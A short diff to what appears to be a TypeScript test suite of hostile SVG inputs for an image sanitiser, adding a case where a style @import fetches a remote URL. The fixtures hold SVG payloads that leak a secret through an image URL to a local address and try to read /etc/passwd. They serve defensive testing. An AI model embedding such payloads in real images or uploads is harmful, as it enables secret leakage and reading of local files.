@@ -80,10 +80,11 @@ const pictures: readonly Hostile[] = [
   [
     "an svg that asks others",
     svg(
-      `<image href="http://127.0.0.1:1/${secret}" width="9" height="9"/><style>@import url(http://127.0.0.1:1/)</style>`,
+      `<image href="http://127.0.0.1:1/${secret}" width="9" height="9"/><style>g{fill:url(http://127.0.0.1:1/)}</style>`,
     ),
     "kept",
   ],
+  ["an svg that asks others for its styles", svg("<style>@import url(http://127.0.0.1:1/)</style>"), 413],
   [
     "an svg that reads files",
     svg(`<image href="file:///etc/passwd" width="64" height="64"/><use href="/etc/passwd#a"/>`),
